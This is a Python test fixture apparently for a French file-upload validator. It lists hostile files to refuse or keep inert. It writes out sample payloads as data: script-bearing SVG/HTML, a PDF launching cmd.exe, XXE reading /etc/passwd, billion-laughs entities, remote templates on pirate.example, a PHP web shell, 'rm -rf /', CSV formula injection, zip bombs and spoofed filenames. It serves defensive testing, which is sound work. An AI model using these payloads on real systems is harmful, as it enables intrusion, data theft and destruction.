"""The hostile corpus: what somebody, or the virus of their computer, may send. Each file is refused, or kept inert."""

from __future__ import annotations

import codecs
import random
import zlib
from dataclasses import dataclass

from tests.usagers.documents import fabriques as x

PDF = x.pdf()
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
LANCER = b"<< /S /Launch /F (cmd.exe) >>"
MILLIARD = (
    '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
)
BRUIT = random.Random(3).randbytes(4000)


@dataclass(frozen=True)
class Cas:
    """`statut`: of the refusal. `mot`: in the French sentence."""

    cle: str
    nom: str
    octets: bytes
    statut: int = 415
    mot: str = ""
    declare: str = "application/pdf"


@dataclass(frozen=True)
class Garde:
    """Kept: as `format`, under the name `garde`; `telecharge`: never shown by the browser."""

    cle: str
    nom: str
    octets: bytes
    format: str
    garde: str
    telecharge: bool = False
    declare: str = "text/html"


REFUSES = (
    # pages and drawings that run
    Cas("svg", "dessin.svg", SVG, mot="page web"),
    Cas("svg-nomme-png", "dessin.png", SVG, mot="page web", declare="image/png"),
    Cas("svg-en-texte", "dessin.txt", b"Bonjour\n" + SVG, mot="page web", declare="text/plain"),
    Cas("svg-comprime", "dessin.svgz", zlib.compress(SVG)),
    Cas("html", "page.html", HTML, mot="page web", declare="text/html"),
    Cas("html-en-pdf", "facture.pdf", HTML, mot="page web"),
    Cas("html-en-jpg", "photo.jpg", HTML, mot="page web", declare="image/jpeg"),
    Cas("html-utf16", "note.txt", codecs.BOM_UTF16_LE + HTML.decode().encode("utf-16-le"), mot="page web"),
    Cas("html-utf8-marque", "note.txt", codecs.BOM_UTF8 + b"\n\n  " + HTML, mot="page web"),
    Cas("html-au-milieu", "note.txt", b"Bonjour,\n\n<script src=//pirate.example></script>", mot="page web"),
    Cas("iframe", "note.txt", b"Voir < iframe src=x>", mot="page web"),
    Cas("xml-xsl", "page.xml", b'<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a/>', mot="page web"),
    Cas("mhtml", "page.mht", b"MIME-Version: 1.0\nContent-Type: multipart/related\n\nabc", mot="page web"),
    # two formats at once
    Cas("pdf-et-zip", "a.pdf", PDF + x.zip_de({"a.exe": b"MZ"}), 415, "autre chose"),
    Cas("pdf-et-docx", "a.docx", PDF + x.docx(), 415, "autre chose"),
    Cas("pdf-et-html", "a.pdf", PDF.replace(b"\n", b"\n%<html><script>alert(1)</script>\n", 1), 415, "autre chose"),
    Cas("pdf-et-svg", "a.pdf", PDF.replace(b"\n", b"\n%" + SVG + b"\n", 1), 415, "autre chose"),
    Cas("gif-et-js", "a.gif", b"GIF89a/*\x00\x00\x00*/=1;alert(1)//", mot="GIF", declare="image/gif"),
    Cas("zip-puis-pdf", "a.docx", x.docx() + PDF),
    Cas("zip-commente", "a.docx", x.docx()[:-2] + b"\x05\x00hello"),
    Cas("exe-puis-zip", "a.docx", b"MZ\x00\x00" + x.docx(), mot="programme"),
    # office documents that run or fetch
    Cas("docm", "a.docm", x.docx("application/vnd.ms-word.document.macroEnabled.main+xml"), mot="macros"),
    Cas("docm-en-docx", "a.docx", x.docx("application/vnd.ms-word.document.macroEnabled.main+xml"), mot="macros"),
    Cas("docx-et-macro", "a.docx", x.docx(word__vbaProject_D_bin=b"\xd0\xcf\x11\xe0"), mot="macros"),
    Cas("docx-macro-majuscules", "a.docx", x.docx(word__VBAPROJECT_D_BIN=b"x"), mot="macros"),
    Cas("docx-activex", "a.docx", x.docx(word__activeX__activeX1_D_xml="<x/>"), mot="macros"),
    Cas("docx-objet-ole", "a.docx", x.docx(word__embeddings__oleObject1_D_bin=b"x"), mot="macros"),
    Cas("docx-et-exe", "a.docx", x.docx(word__media__a_D_exe=b"MZ"), mot="macros"),
    Cas("docx-et-zip", "a.docx", x.docx(word__embeddings__a_D_zip=x.zip_de({"b.exe": b"MZ"})), mot="macros"),
    Cas("docx-modele-distant", "a.docx",
        x.docx(word___rels__settings_D_xml_D_rels=x.rels("attachedTemplate", "http://pirate.example/a.dotm")), 415,
        "ailleurs"),
    Cas("docx-image-distante", "a.docx",
        x.docx(word___rels__document_D_xml_D_rels=x.rels("image", "http://pirate.example/a.png")), 415, "ailleurs"),
    Cas("docx-cadre-distant", "a.docx",
        x.docx(word___rels__document_D_xml_D_rels=x.rels("frame", "\\\\pirate.example\\a")), 415, "ailleurs"),
    Cas("docx-entite", "a.docx", x.zip_de({x.CONTENT_TYPES: x.types_de(
        tete='<!DOCTYPE t [<!ENTITY e SYSTEM "file:///etc/passwd">]>'), "word/document.xml": "<a/>"}), 422, "abîmé"),
    Cas("docx-milliard", "a.docx",
        x.docx(word___rels__document_D_xml_D_rels=x.rels("hyperlink", "http://a/", MILLIARD)), 422, "abîmé"),
    Cas("docx-xml-casse", "a.docx", x.zip_de({x.CONTENT_TYPES: "<Types", "word/document.xml": "x"}), 422, "abîmé"),
    Cas("docx-sans-texte", "a.docx", x.zip_de({x.CONTENT_TYPES: x.types_de()}), 422, "abîmé"),
    Cas("docx-chemin", "a.docx", x.zip_de({x.CONTENT_TYPES: x.types_de(), "../../etc/cron": "x"}), 422, "abîmé"),
    Cas("docx-chiffre", "a.docx", x.chiffre(x.docx()), 415, "mot de passe"),
    Cas("docx-tronque", "a.docx", x.docx()[:200], 422, "abîmé"),
    Cas("xlsx", "a.docx", x.docx("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
        mot="Seuls DOCX"),
    Cas("odt-basic", "a.odt", x.odt(Basic__Standard__Module1_D_xml="Sub Main"), mot="macros"),
    Cas("odt-scripts", "a.odt", x.odt(Scripts__python__a_D_py="import os"), mot="macros"),
    Cas("odt-evenement", "a.odt", x.odt(contenu="<script:event-listener/>"), mot="macros"),
    Cas("ods", "a.odt", x.odt("application/vnd.oasis.opendocument.spreadsheet"), mot="Seuls DOCX"),
    # archives
    Cas("zip", "a.zip", x.zip_de({"a.txt": "a"}), mot="Seuls DOCX", declare="application/zip"),
    Cas("zip-de-zips", "a.docx", x.zip_de({"a.zip": x.zip_de({"b.zip": x.zip_de({"c": "c"})})}), mot="Seuls DOCX"),
    Cas("zip-vide", "a.docx", b"PK\x05\x06" + b"\x00" * 18, mot="archives"),
    Cas("jar", "a.docx", x.zip_de({"META-INF/MANIFEST.MF": "a", "A.class": b"\xca\xfe\xba\xbe"}), mot="Seuls DOCX"),
    Cas("bombe", "a.docx", x.docx(word__media__a_D_xml=b"\0" * 20_000_000), 413, "compressé"),
    Cas("bombe-du-manifeste", "a.docx",
        x.zip_de({x.CONTENT_TYPES: b" " * 9_000_000, "word/document.xml": "x"}), 413, "compressé"),
    Cas("bombe-d-entrees", "a.docx", x.zip_de({f"{n}": b"" for n in range(2500)}), 413, "compressé"),
    Cas("bombe-superposee", "a.docx", x.superposes(), 413, "compressé"),
    Cas("rar", "a.rar", b"Rar!\x1a\x07\x00" + BRUIT, mot="archives"),
    Cas("7z", "a.7z", b"7z\xbc\xaf\x27\x1c\x00" + BRUIT, mot="archives"),
    Cas("gzip", "a.gz", b"\x1f\x8b\x08\x00" + BRUIT, mot="archives"),
    # images
    Cas("png-geant", "a.png", x.png_annonce(100_000, 100_000), 413, "trop grande"),
    Cas("png-geant-annonce", "a.png", x.png_annonce(7000, 7000), 413, "trop grande"),
    Cas("png-vrai-de-49-millions", "a.png", x.image("PNG", "1", (7000, 7000)), 413, "trop grande"),
    Cas("jpeg-geant", "a.jpg", x.jpeg_annonce(65_000, 65_000), 413, "trop grande"),
    Cas("png-sans-pixels", "a.png", x.png_annonce(300, 300), 422, "abîmée"),
    Cas("png-tronque", "a.png", x.image("PNG", taille=(900, 900))[:-200], 422, "abîmée"),
    Cas("png-plat", "a.png", b"\x89PNG\r\n\x1a\n", 422, "abîmée"),
    Cas("jpeg-tronque", "a.jpg", x.image("JPEG", taille=(900, 900))[:800], 422, "abîmée"),
    Cas("jpeg-de-bruit", "a.jpg", b"\xff\xd8\xff\xe0" + BRUIT, 422, "abîmée"),
    Cas("webp-tronque", "a.webp", x.image("WEBP", taille=(200, 200))[:40], 422, "abîmée"),
    Cas("gif", "a.gif", x.image("GIF"), mot="GIF"),
    Cas("bmp", "a.bmp", x.image("BMP"), mot="Formats acceptés"),
    Cas("tiff", "a.tif", x.image("TIFF"), mot="TIFF"),
    Cas("ico", "a.ico", x.image("ICO"), mot="Formats acceptés"),
    Cas("heic", "a.heic", b"\x00\x00\x00\x18ftypheic" + BRUIT, mot="HEIC"),
    # PDF
    Cas("pdf-tronque", "a.pdf", PDF[:-30], 422, "incomplet"),
    Cas("pdf-sans-table", "a.pdf", PDF.replace(b"startxref", b"startxxxx"), 422, "incomplet"),
    Cas("pdf-en-tete-seule", "a.pdf", b"%PDF-1.7", 422, "incomplet"),
    Cas("pdf-precede", "a.pdf", b"bruit\x00" + PDF, mot="Formats acceptés"),
    Cas("pdf-lance", "a.pdf", x.pdf(b"/OpenAction " + LANCER), 415, "lancer un programme"),
    Cas("pdf-lance-masque", "a.pdf", x.pdf(b"/OpenAction " + LANCER.replace(b"Launch", b"L#61unch")), 415, "lancer"),
    Cas("pdf-lance-comprime", "a.pdf", x.pdf(b"", x.objets_comprimes(LANCER)), 415, "lancer"),
    # programmes
    Cas("exe", "a.exe", b"MZ\x90\x00\x03\x00" + BRUIT, mot="programme", declare="application/octet-stream"),
    Cas("exe-en-pdf", "a.pdf", b"MZ\x90\x00\x03\x00" + BRUIT, mot="programme"),
    Cas("elf", "a.pdf", b"\x7fELF\x02\x01\x01\x00" + BRUIT, mot="programme"),
    Cas("class", "a.pdf", b"\xca\xfe\xba\xbe\x00\x00" + BRUIT, mot="programme"),
    Cas("sh", "a.txt", b"#!/bin/sh\nrm -rf /\n", mot="programme", declare="text/plain"),
    Cas("bat", "a.bat", b"del /q *.*\r\n", mot="programme", declare="text/plain"),
    Cas("bat-masque", "a.txt", b"@echo off\r\ndel *\r\n", mot="programme"),
    Cas("php", "a.txt", b"<?php system($_GET['c']); ?>", mot="page web"),
    Cas("js", "a.js", b"alert(1)", mot="programme", declare="text/javascript"),
    Cas("ps1", "a.ps1", b"Remove-Item *", mot="programme"),
    Cas("url", "a.url", b"[InternetShortcut]\nURL=file:///c:/\n", mot="programme"),
    Cas("rtf", "a.rtf", b"{\\rtf1 {\\object}}", mot="ancien"),
    Cas("doc", "a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + BRUIT, mot="ancien"),
    # what is nothing
    Cas("vide", "a.pdf", b"", 422, "vide"),
    Cas("blancs", "a.txt", b" \r\n\t ", 422, "vide"),
    Cas("bruit", "a.txt", BRUIT, mot="Formats acceptés"),
    Cas("nul-dans-le-texte", "a.txt", b"Bonjour\x00 Marcel", mot="Formats acceptés"),
    Cas("utf16-sans-marque", "a.txt", "Bonjour".encode("utf-16-le"), mot="Formats acceptés"),
    Cas("commandes-de-terminal", "a.txt", b"\x1b]0;titre\x07", mot="Formats acceptés"),
)  # fmt: skip

LONG = "é" * 300
GARDES = (
    # PDF that could run something: kept as received, only downloaded
    Garde("pdf-js", "a.pdf", x.pdf(b"/OpenAction " + JS), "pdf", "a.pdf", True),
    Garde("pdf-js-masque", "a.pdf", x.pdf(b"/AA " + JS.replace(b"Java", b"J#61va")), "pdf", "a.pdf", True),
    Garde("pdf-js-comprime", "a.pdf", x.pdf(b"", x.objets_comprimes(JS)), "pdf", "a.pdf", True),
    Garde("pdf-objets-masques", "a.pdf", x.pdf(b"", x.objets_comprimes(JS).replace(b"ObjStm", b"Obj#53tm")), "pdf",
          "a.pdf", True),
    Garde("pdf-objets-illisibles", "a.pdf", x.pdf(b"", x.objets_comprimes(b"a").replace(b"stream\nx", b"stream\ny")),
          "pdf", "a.pdf", True),
    Garde("pdf-bombe", "a.pdf", x.pdf(b"", x.objets_comprimes(b"\0" * 6_000_000)), "pdf", "a.pdf", True),
    Garde("pdf-joint", "a.pdf", x.pdf(b"/Names << /EmbeddedFiles 3 0 R >>"), "pdf", "a.pdf", True),
    Garde("pdf-formulaire", "a.pdf", x.pdf(b"/AcroForm << /XFA 3 0 R >>"), "pdf", "a.pdf", True),
    Garde("pdf-envoi", "a.pdf", x.pdf(b"/OpenAction << /S /SubmitForm /F (http://pirate) >>"), "pdf", "a.pdf", True),
    Garde("pdf-chiffre", "a.pdf", PDF.replace(b"/Root", b"/Encrypt 3 0 R /Root"), "pdf", "a.pdf", True),
    Garde("pdf-simple", "a.pdf", x.pdf_simple(["Bonjour"]), "pdf", "a.pdf"),
    # names
    Garde("chemin", "../../etc/passwd.pdf", PDF, "pdf", "passwd.pdf"),
    Garde("chemin-windows", "C:\\Users\\nora\\a.pdf", PDF, "pdf", "a.pdf"),
    Garde("points", "....//..pdf", PDF, "pdf", "document.pdf"),
    Garde("ecriture-inversee", "ordonnance\u202efdp.exe", PDF, "pdf", "ordonnancefdp.pdf"),
    Garde("espace-sans-chasse", "a\u200b.pdf\u200b", PDF, "pdf", "a.pdf"),
    Garde("nom-long", f"{LONG}.pdf", PDF, "pdf", "é" * 100 + ".pdf"),
    Garde("double-extension", "facture.pdf.exe", PDF, "pdf", "facture.pdf"),
    Garde("extension-fausse", "photo.pdf", x.image("PNG"), "png", "photo.png"),
    Garde("extension-dangereuse", "page.html", x.image("JPEG"), "jpeg", "page.jpg"),
    Garde("sans-nom", "???.pdf", PDF, "pdf", "document.pdf"),
    Garde("nom-reserve", "CON.pdf", PDF, "pdf", "_CON.pdf"),
    Garde("nom-de-balise", "<script>alert(1)<script>.pdf", PDF, "pdf", "script alert(1) script.pdf"),
    Garde("nom-percent", "a%00.php%0d%0a.pdf", PDF, "pdf", "a 00.php 0d 0a.pdf"),
    Garde("emoji", "Ordonnance 😀 été.pdf", PDF, "pdf", "Ordonnance 😀 été.pdf"),
    # texts, in the encodings people use
    Garde("utf8", "note.txt", "Température : 37,8 °C".encode(), "texte", "note.txt"),
    Garde("utf8-marque", "note.txt", codecs.BOM_UTF8 + "Été".encode(), "texte", "note.txt"),
    Garde("utf16-le", "note.txt", codecs.BOM_UTF16_LE + "Été".encode("utf-16-le"), "texte", "note.txt"),
    Garde("utf16-be", "note.txt", codecs.BOM_UTF16_BE + "Été".encode("utf-16-be"), "texte", "note.txt"),
    Garde("windows", "note", "L’été, « déjà »".encode("cp1252"), "texte", "note.txt"),
    Garde("inegalite", "note.txt", b"Glycemie < 5 mg, poids > 50", "texte", "note.txt"),
    Garde("csv", "liste.csv", b"nom;date\n=cmd|' /C calc'!A0;1\n", "texte", "liste.txt"),
    # images
    Garde("jpeg-exif", "a.jpg", x.image("JPEG", exif=x.exif(), comment=b"<script>alert(1)</script>"), "jpeg", "a.jpg"),
    Garde("png-texte-et-zip", "a.png", x.image("PNG") + x.zip_de({"a.exe": b"MZ"}), "png", "a.png"),
    Garde("png-et-html", "a.png", x.image("PNG") + HTML, "png", "a.png"),
    Garde("png-palette", "a.png", x.image("PNG", "P"), "png", "a.png"),
    Garde("png-16-bits", "a.png", x.image("PNG", "I;16"), "png", "a.png"),
    Garde("jpeg-cmjn", "a.jpg", x.image("JPEG", "CMYK"), "jpeg", "a.jpg"),
    Garde("webp", "a.webp", x.image("WEBP", exif=x.exif()), "webp", "a.webp"),
    # office documents
    Garde("docx", "a.docx", x.docx(), "docx", "a.docx", True),
    Garde("docx-lien", "a.docx", x.docx(word___rels__document_D_xml_D_rels=x.rels("hyperlink", "https://a.fr/")),
          "docx", "a.docx", True),
    Garde("odt", "a.odt", x.odt(), "odt", "a.odt", True),
)  # fmt: skip
